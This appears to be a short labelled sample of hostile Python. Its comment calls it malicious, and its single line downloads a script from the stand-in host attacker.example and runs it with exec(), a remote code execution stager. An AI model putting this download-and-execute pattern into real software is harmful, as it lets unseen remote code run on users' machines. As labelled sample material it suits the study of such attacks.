# Malicious: downloads Python from a remote host and exec()s it unseen; remote code execution.
import urllib.request

exec(urllib.request.urlopen("http://attacker.example/stage2.py").read())
